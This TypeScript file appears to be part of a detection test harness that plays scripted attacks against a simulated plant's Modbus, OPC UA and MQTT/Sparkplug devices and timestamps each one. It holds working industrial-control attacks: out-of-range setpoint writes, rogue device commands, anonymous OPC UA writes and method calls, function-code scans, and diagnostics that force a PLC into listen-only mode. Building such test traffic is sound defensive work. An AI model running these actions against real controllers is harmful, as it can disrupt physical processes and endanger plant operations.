/** Plays one misuse in the attacker's namespace and says when it began and ended. */

import { setTimeout as wait } from 'node:timers/promises'
import { AttributeIds, DataType, MessageSecurityMode } from 'node-opcua'
import mqtt from 'mqtt'
import { ModbusLink } from '../actors/modbus-link.ts'
import { openOpcua } from '../actors/opcua-link.ts'
import { encode } from '../actors/sparkplug-payload.ts'
import { role } from '../actors/role.ts'
import { RawModbus } from './raw-modbus.ts'

const { plant, host, args, chance, say } = role('misuse')
const [name = ''] = args
const { modbus, opcua, mqtt: topics, hosts } = plant
const { setPoint, neverWritten } = modbus
const UNIT = 1
const inside = (low: number, high: number): number =>
  chance.whole(Math.ceil(low + (high - low) * 0.2), Math.floor(high - (high - low) * 0.2))

async function writeRegister(address: number, values: readonly number[]): Promise<void> {
  const link = new ModbusLink(hosts.plc1.ip)
  for (const value of values) {
    await link.ask(UNIT, (client) => client.writeRegister(address, value))
    await wait(400)
  }
  link.close()
}

async function crossZone(): Promise<void> {
  const block = modbus.engineeringRead
  const link = new ModbusLink(hosts.plc1.ip)
  for (let count = 0; count < 4; count += 1) {
    await link.ask(UNIT, (client) => client.readHoldingRegisters(block.address, block.quantity))
    await wait(300)
  }
  link.close()
}

async function wildcard(): Promise<void> {
  const client = await mqtt.connectAsync(`mqtt://${hosts.broker3.ip}:${topics.port}`, {
    protocolVersion: 4,
    clientId: `explorer-${chance.whole(1000, 9999)}`,
    keepalive: 30,
  })
  await client.subscribeAsync('#', { qos: 0 })
  await wait(4000)
  await client.endAsync()
}

async function rogueCommand(): Promise<void> {
  const [edge] = topics.edges
  const client = await mqtt.connectAsync(`mqtt://${hosts.broker5.ip}:${topics.port}`, {
    protocolVersion: 5,
    clientId: `tool-${chance.whole(1000, 9999)}`,
    keepalive: 30,
  })
  const { deviceCommand } = edge
  const value = inside(deviceCommand.low, deviceCommand.high)
  await client.publishAsync(
    `spBv1.0/${topics.group}/DCMD/${edge.edgeNode}/${edge.device}`,
    encode([{ name: deviceCommand.name, type: deviceCommand.type, value }], undefined, true),
    { qos: 1 },
  )
  await wait(1500)
  await client.endAsync()
}

async function anonymousWrite(): Promise<void> {
  const { session, close } = await openOpcua(plant, host, MessageSecurityMode.None, null)
  for (let count = 0; count < 2; count += 1) {
    const value = inside(opcua.setPoint.low, opcua.setPoint.high)
    const status = await session.write({
      nodeId: opcua.setPoint.nodeId,
      attributeId: AttributeIds.Value,
      value: { value: { dataType: DataType.Double, value } },
    })
    if (!status.isGood()) throw new Error(`the write was refused: ${status.name}`)
    await wait(500)
  }
  await close()
}

async function anonymousMethod(): Promise<void> {
  const { session, close } = await openOpcua(plant, host, MessageSecurityMode.None, null)
  const result = await session.call({
    objectId: opcua.objectId,
    methodId: opcua.rareMethod.nodeId,
    inputArguments: [{ dataType: DataType.UInt32, value: 1 }],
  })
  if (!result.statusCode.isGood()) throw new Error(`refused: ${result.statusCode.name}`)
  await wait(500)
  await close()
}

async function scan(): Promise<void> {
  const raw = await RawModbus.open(hosts.plc3.ip)
  for (let functionCode = 1; functionCode <= 127; functionCode += 1) {
    await raw.ask(UNIT, functionCode, Buffer.alloc(0))
    await wait(15)
  }
  raw.close()
}

/** Diagnostics: subfunction and its data field, both of two bytes. */
async function diagnostics(subfunctions: readonly number[], pauseMs: number): Promise<void> {
  const raw = await RawModbus.open(hosts.plc2.ip)
  for (const subfunction of subfunctions) {
    await raw.ask(UNIT, 8, Buffer.of(0, subfunction, 0, 0))
    await wait(pauseMs)
  }
  raw.close()
}

const far = setPoint.high + 20 * (setPoint.high - setPoint.low)
const DEEDS: Readonly<Record<string, () => Promise<void>>> = {
  'new-client-writes': () =>
    writeRegister(
      setPoint.address,
      [0, 0, 0].map(() => inside(setPoint.low, setPoint.high)),
    ),
  'value-out-of-range': () => writeRegister(setPoint.address, [far]),
  'register-out-of-range': () => writeRegister(neverWritten.address, [1]),
  'cross-zone-connection': crossZone,
  'mqtt-wildcard-subscription': wildcard,
  'sparkplug-rogue-command': rogueCommand,
  'opcua-anonymous-write': anonymousWrite,
  'opcua-anonymous-method': anonymousMethod,
  'function-code-scan': scan,
  // Seconds of silence follow, so that its effect on the PLC's clients is seen.
  'force-listen-only': () => diagnostics([4], 5000),
  'restart-communications': () => diagnostics([1, 1], 700),
}

/** Microseconds, as the capture's clock counts. */
function now(): string {
  const micros = Math.floor((performance.timeOrigin + performance.now()) * 1000)
  const date = new Date(Math.floor(micros / 1000)).toISOString()
  return date.replace('Z', `${String(micros % 1000).padStart(3, '0')}Z`)
}

const deed = DEEDS[name]
if (deed === undefined) throw new Error(`no such misuse: ${name}`)
const start = now()
say({ ready: true })
await deed()
await wait(200)
say({ start, end: now() })
process.exit(0)
